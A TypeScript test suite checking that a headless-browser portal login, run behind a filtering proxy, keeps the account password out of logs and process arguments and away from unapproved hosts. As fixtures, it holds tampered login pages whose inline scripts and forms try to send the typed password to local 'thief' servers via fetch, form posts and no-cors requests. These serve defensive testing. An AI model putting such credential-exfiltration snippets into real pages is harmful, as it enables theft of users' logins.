/** Logging in: by the call, and by the portal's own page in a real headless browser. */

import { createSocket } from 'node:dgram';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type RequestListener, type Server, type ServerResponse } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContextOptions } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { Cancelled } from '../../src/lib/errors.ts';
import {
  findBrowser,
  launch,
  logInByBrowser,
  logInOn,
  openPage,
  proxyOptions,
} from '../../src/portal/browser-login.ts';
import { type BrowserProxy, startBrowserProxy } from '../../src/portal/browser-proxy.ts';
import { defaultProfile, type Login } from '../../src/portal/profile/profile.ts';
import { COMMON, type Job, newJob, runStep } from '../support/action.ts';
import { startPortal } from '../support/portal.ts';
import { NOT_ASKED, SERVICE_WORKER, tamperedPage, WAYS, type Way } from '../support/tampered-page.ts';
import { thoroughTest } from '../support/thorough.ts';

const ACCOUNT = { username: 'developer@example.com', password: 'p4ss "word" & more' };
const BROWSER = await findBrowser(process.env).catch(() => undefined);
if (!BROWSER) console.warn('No Chrome or Chromium here: the login by the browser is not tested. Set CHROME_BIN.');

const servers: Server[] = [];
afterAll(() => {
  for (const server of servers) server.close().closeAllConnections();
});

const cleanups: (() => unknown)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0)) await cleanup();
});

function jobWith(profile: unknown): Job {
  const job = newJob();
  cleanups.push(job.close);
  writeFileSync(join(job.workspace, 'portal.json'), JSON.stringify(profile));
  return job;
}

async function portalWithAccount() {
  const portal = await startPortal({ credentials: ACCOUNT, seed: { versions: ['1.0.0'] } });
  cleanups.push(portal.close);
  return {
    portal,
    inputs: {
      ...COMMON,
      'portal-url': portal.url,
      'portal-username': ACCOUNT.username,
      'portal-password': ACCOUNT.password,
      version: '1.0.0',
    },
  };
}

describe('by the call', () => {
  test('a refused password is tried once', async () => {
    const { portal, inputs } = await portalWithAccount();
    const step = await runStep({ ...inputs, stage: 'status', 'portal-password': 'wrong-password' });
    expect(step.outputs).toMatchObject({ verdict: 'failed', 'error-code': 'portal-unauthorized' });
    expect(portal.read().journal.map(({ operation, errorCode }) => [operation, errorCode])).toEqual([
      ['login', 'LOGIN_FAILED'],
    ]);
    expect(step.everything).not.toContain('wrong-password');
  });
});

describe.skipIf(!BROWSER)('by the page', () => {
  thoroughTest('the built action logs in and releases; nothing is left behind', async () => {
    const { portal, inputs } = await portalWithAccount();
    const job = jobWith({ login: { by: 'browser' } });
    const seen: string[] = [];
    const step = await runStep(
      { ...inputs, stage: 'submit', 'portal-profile': 'portal.json' },
      {
        job,
        env: { CHROME_BIN: BROWSER, HOME: process.env['HOME'] },
        onStart: (child) => {
          const timer = setInterval(() => seen.push(...processesBelow(child.pid ?? 0)), 50);
          child.on('close', () => clearInterval(timer));
        },
      },
    );
    expect(step.outputs).toMatchObject({ verdict: 'succeeded', state: 'created' });
    expect(portal.effects()).toEqual(['login', 'createRelease']);
    expect(step.report.operations[0]).toMatchObject({ operation: 'login', ok: true });
    for (const secret of [ACCOUNT.password, encodeURIComponent(ACCOUNT.password)])
      expect(step.everything).not.toContain(secret);

    const browsers = seen.filter((process) => /--user-data-dir/.test(process));
    expect(browsers.length).toBeGreaterThan(0);
    for (const process of browsers) {
      expect(process).not.toContain(ACCOUNT.password);
      expect(process).not.toContain(ACCOUNT.username);
      expect(process).not.toContain('INPUT_');
      expect(process).not.toContain('--ignore-certificate-errors');
      expect(process).not.toContain('--remote-debugging-port');
    }
    expect(readdirSync(job.temp).filter((name) => name.includes('browser'))).toEqual([]);
  });

  describe('in one browser for all pages: each gets a context and a proxy of its own, as a login does', () => {
    let browser: Browser;
    let folder: string;
    let unused: BrowserProxy;
    beforeAll(async () => {
      folder = mkdtempSync(join(tmpdir(), 'browser-'));
      const options = optionsFor('http://127.0.0.1');
      unused = await startBrowserProxy(proxyOptions(options));
      browser = await launch(String(BROWSER), folder, unused, options);
    }, 60_000);
    afterAll(async () => {
      await browser.close();
      await unused.close();
      rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
    });

    const optionsFor = (
      origin: string,
      login: Partial<Login> = {},
      hosts: readonly string[] = [],
      timeoutMs = 20_000,
    ) => ({
      profile: { ...defaultProfile, login: { ...defaultProfile.login, ...login } },
      origin: new URL(origin),
      hosts,
      account: ACCOUNT,
      environment: process.env,
      tempDir: tmpdir(),
      signal: new AbortController().signal,
      redact: (text: string) => text,
      timeoutMs,
    });
    const serve = async (page: RequestListener | string, host = '127.0.0.1') => {
      const html = (_: unknown, res: ServerResponse) => void res.setHeader('content-type', 'text/html').end(page);
      const server = createServer(typeof page === 'string' ? html : page);
      await new Promise<void>((resolve) => server.listen(0, host, resolve));
      servers.push(server);
      return `http://${host}:${(server.address() as AddressInfo).port}`;
    };
    const logIn = async (
      page: RequestListener | string,
      login?: Partial<Login>,
      hosts?: readonly string[],
      timeoutMs?: number,
    ) => {
      const options = optionsFor(await serve(page), login, hosts, timeoutMs);
      const proxy = await startBrowserProxy(proxyOptions(options));
      return logInThrough(proxy, options, { proxyServer: proxy.url, proxyBypassList: ['<-loopback>'] });
    };
    const logInThrough = async (
      proxy: BrowserProxy,
      options: ReturnType<typeof optionsFor>,
      context: BrowserContextOptions,
    ) => {
      const page = await openPage(browser, context);
      try {
        return await logInOn(page, proxy, options).catch((error) => error);
      } finally {
        await page.browserContext().close();
        await proxy.close();
      }
    };
    const FORM = '<input id=username><input id=password type=password>';
    const onEnter = (script: string) =>
      `${FORM}<script>addEventListener('keydown', (e) => { if (e.key === 'Enter') { ${script} } })</script>`;

    thoroughTest.concurrent('a refusal, a captcha and a second factor are named, and typed into once', async () => {
      const [refused, captcha, factor] = await Promise.all([
        logIn(
          onEnter(
            "document.body.append(Object.assign(document.createElement('p'), { role: 'alert', textContent: 'Password salah' }))",
          ),
        ),
        logIn(onEnter("document.body.innerHTML += '<div class=nc-container>slide</div>'")),
        logIn(onEnter("document.body.innerHTML += '<input autocomplete=one-time-code>'")),
      ]);
      expect(refused).toMatchObject({ code: 'portal-unauthorized', transient: false });
      expect(refused.found).toBe('The login was refused: Password salah.');
      expect(captcha.found).toContain('captcha');
      expect(factor.found).toContain('second factor');
    });

    const LETS_IN = onEnter("document.cookie = 'SESSION=from-the-page; path=/'; location.hash = '#/overview'");

    thoroughTest('a tampered page gets the password to no other host, whichever way it tries', async () => {
      const connections: string[] = [];
      const thief = createTcpServer((socket) => {
        connections.push(`TCP ${socket.localAddress}`);
        socket.destroy();
      });
      await new Promise<void>((resolve) => thief.listen(0, '0.0.0.0', resolve));
      const { port } = thief.address() as AddressInfo;
      const datagrams = createSocket('udp4', () => connections.push('UDP')).bind(port, '0.0.0.0');
      cleanups.push(
        () => thief.close(),
        () => datagrams.close(),
      );
      const hostOf = (way: Way) => `127.0.1.${WAYS.indexOf(way) + 1}:${port}`;

      const missing = () => WAYS.filter((way) => !NOT_ASKED.includes(way) && !proxy.blocked.has(hostOf(way)));
      const pages: Record<string, (res: ServerResponse, url: URL) => unknown> = {
        '/': (res) => res.setHeader('content-type', 'text/html').end(tamperedPage(hostOf)),
        '/worker.js': (res) => res.setHeader('content-type', 'text/javascript').end(SERVICE_WORKER),
        '/redirect': (res, url) => res.writeHead(302, { location: url.searchParams.get('to') ?? '' }).end(),
        '/tried': async (res) => {
          await vi.waitUntil(() => missing().length === 0, { timeout: 15_000 }).catch(() => {});
          res.end();
        },
      };
      const origin = await serve((req, res) => {
        const url = new URL(req.url ?? '', 'http://portal');
        void (pages[url.pathname] ?? ((response: ServerResponse) => response.writeHead(404).end()))(res, url);
      });
      const job = newJob();
      const options = { ...optionsFor(origin), environment: { ...process.env, HOME: job.workspace } };
      const proxy = await startBrowserProxy(proxyOptions(options));
      // A browser of its own, started as a login starts it.
      const own = await launch(String(BROWSER), job.temp, proxy, options);
      cleanups.push(() => own.close(), proxy.close, job.close);
      expect(await logInOn(await openPage(own), proxy, options)).toContain('SESSION=from-the-page');
      // Its download found no place either.
      expect(readdirSync(job.workspace)).not.toContain('Downloads');
      expect(connections).toEqual([]);
      expect(missing()).toEqual([]);
    });

    thoroughTest.concurrent('the first address of the list that shows the fields is the login page', async () => {
      const seen: string[] = [];
      const session = await logIn((req, res) => {
        seen.push(req.url ?? '');
        const isLogin = req.url === '/superapp';
        res.writeHead(isLogin ? 200 : 404, { 'content-type': 'text/html' });
        res.end(
          isLogin
            ? LETS_IN.replace(
                '<input',
                '<script>if (location.hash !== "#/login") document.body.remove()</script><input',
              )
            : 'no page',
        );
      });
      expect(session).toBe('SESSION=from-the-page');
      expect(seen.filter((path) => path !== '/favicon.ico')).toEqual(['/', '/login', '/superapp']);
    });

    thoroughTest.concurrent('no address of the list shows the fields: each is told with its reason', async () => {
      const error = await logIn((_, res) => res.writeHead(404).end('no page'), { page: ['/a', '/b'] }, [], 6_000);
      expect(error).toMatchObject({ code: 'portal-unreachable', transient: false });
      expect(error.found).toContain('(/a: HTTP 404; /b: ');
    });

    thoroughTest.concurrent(
      'a page of a host that may not have the password gets nothing typed, and is named',
      async () => {
        const elsewhere = await serve(FORM, '127.0.0.2');
        const { host } = new URL(elsewhere);
        const errors = await Promise.all([
          logIn((_, res) => res.writeHead(302, { location: elsewhere }).end()),
          logIn(`<script>location = '${elsewhere}'</script>`),
          // Even where the host may serve files.
          logIn((_, res) => res.writeHead(302, { location: elsewhere }).end(), { staticHosts: [host] }),
        ]);
        for (const error of errors) {
          expect(error).toMatchObject({ code: 'portal-unexpected', transient: false });
          expect(error.found).toContain('nothing was typed');
          expect(error.message).toContain(host);
          expect(error.message).toContain('portal-hosts');
        }
      },
    );

    thoroughTest.concurrent('a page of a host in portal-hosts gets the password', async () => {
      const typed: string[] = [];
      const portalHost = await serve((req, res) => {
        if (req.method === 'POST') req.on('data', (chunk) => typed.push(String(chunk)));
        res.setHeader('content-type', 'text/html').end(
          onEnter(`
        fetch('/', { method: 'POST', body: document.getElementById('password').value })
          .then(() => { location = new URLSearchParams(location.search).get('back') + '/#/overview'; })`),
        );
      }, '127.0.0.2');
      const portal: RequestListener = ({ url, headers }, res) =>
        url === '/'
          ? res.writeHead(302, { location: `${portalHost}/?back=http://${headers.host}/home` }).end()
          : res.setHeader('set-cookie', 'SESSION=from-the-portal').end('welcome');
      expect(await logIn(portal, {}, [new URL(portalHost).host])).toBe('SESSION=from-the-portal');
      expect(typed).toEqual([ACCOUNT.password]);
    });

    thoroughTest.concurrent('a login that is sent to another host is kept from it, and the host is named', async () => {
      const stolen: string[] = [];
      const thief = await serve((req, res) => {
        stolen.push(`${req.method} ${req.url}`);
        res.end();
      }, '127.0.0.2');
      const error = await logIn(
        `<form action="${thief}" method="post">${FORM.replace('id=password', 'id=password name=password')}<button>Log in</button></form>`,
      );
      expect(error).toMatchObject({ code: 'portal-unexpected', transient: false });
      expect(error.message).toContain(new URL(thief).host);
      expect(error.message).toContain('portal-hosts');
      const told = await logIn(
        onEnter(`fetch('${thief}').catch(() => { document.body.innerHTML += '<p role=alert>Login failed</p>'; })`),
      );
      expect(told).toMatchObject({ code: 'portal-unauthorized' });
      expect(told.message).toMatch(/Login failed.*127\.0\.0\.2.*portal-hosts/);
      expect(stolen).toEqual([]);
    });

    thoroughTest.concurrent('a static host serves files until something is typed, and is cut off then', async () => {
      const asked: string[] = [];
      let cut = false;
      const files = await serve((req, res) => {
        asked.push(req.url ?? '');
        if (req.url === '/open') return void res.on('close', () => (cut = true)).write('data: 1\n\n');
        res.setHeader('content-type', 'text/javascript').end(`document.body.innerHTML = '${FORM}'`);
      }, '127.0.0.2');
      const page = onEnter(`
      fetch('${files}/stolen', { mode: 'no-cors' }).catch(() => {}).then(() => {
        document.cookie = 'SESSION=from-the-page; path=/'; location.hash = '#/overview';
      })`).replace(
        FORM,
        `<body><script>new Image().src = '${files}/open'</script><script src="${files}/form.js"></script>`,
      );
      expect(await logIn(page, { staticHosts: [new URL(files).host] })).toBe('SESSION=from-the-page');
      expect(asked.sort()).toEqual(['/form.js', '/open']);
      expect(cut).toBe(true);
    });

    thoroughTest.concurrent('a browser that goes round the proxy gets nothing typed', async () => {
      const options = optionsFor(await serve(LETS_IN));
      const proxy = await startBrowserProxy(proxyOptions(options));
      const error = await logInThrough(proxy, options, { proxyServer: 'direct://' });
      expect(error).toMatchObject({ code: 'portal-unreachable', transient: false });
      expect(error.found).toContain('nothing was typed');
    });

    thoroughTest.concurrent("the browser's own error page is no refusal of the portal", async () => {
      const form = `<form method=post>${FORM}<button>Log in</button></form>`;
      const error = await logIn((req, res) =>
        req.method === 'POST' ? res.destroy() : res.setHeader('content-type', 'text/html').end(form),
      );
      expect(error).toMatchObject({ code: 'portal-unreachable', transient: false, effect: 'unknown' });
      expect(error.found).toContain('socket hang up');
      const nobody = await logIn((_, res) => res.destroy());
      expect(nobody).toMatchObject({ code: 'portal-unreachable', transient: true });
      expect(nobody.found).toContain('socket hang up');
    });

    thoroughTest('a cancelled run ends the browser and leaves no folder', async () => {
      const job = newJob();
      cleanups.push(job.close);
      const controller = new AbortController();
      const origin = await serve((_, res) => {
        res.setHeader('content-type', 'text/html').end('<p>no form</p>');
        controller.abort();
      });
      const options = { ...optionsFor(origin), tempDir: job.temp, signal: controller.signal };
      await expect(logInByBrowser(options)).rejects.toThrow(Cancelled);
      expect(readdirSync(job.temp)).toEqual([]);
    });
  });
});

test('no browser: what to install, or which input to use instead', async () => {
  await expect(findBrowser({ PATH: '' })).rejects.toMatchObject({ code: 'portal-unreachable' });
  const error = await findBrowser({ CHROME_BIN: '/nowhere/chrome' }).catch((thrown) => thrown);
  expect(error.message).toContain('portal-session');
});

/** Arguments and environments of a process's descendants (Linux). */
function processesBelow(pid: number): string[] {
  const parents = new Map(
    readdirSync('/proc')
      .filter((name) => /^\d+$/.test(name))
      .map((name) => [Number(name), parentOf(name)]),
  );
  const isBelow = (child: number): boolean => {
    const parent = parents.get(child);
    return parent === pid || (parent !== undefined && parent > 1 && isBelow(parent));
  };
  return [...parents.keys()].filter(isBelow).map((child) => {
    try {
      return ['cmdline', 'environ'].map((file) => readFileSync(`/proc/${child}/${file}`, 'utf8')).join('\n');
    } catch {
      return '';
    }
  });
}

/** The fourth field of a process's stat; its name, the second, may hold spaces and brackets. */
function parentOf(pid: string): number | undefined {
  try {
    const [, after = ''] = /^.*\) \S (\d+) /s.exec(readFileSync(`/proc/${pid}/stat`, 'utf8')) ?? [];
    return Number(after);
  } catch {
    // It has ended.
    return undefined;
  }
}
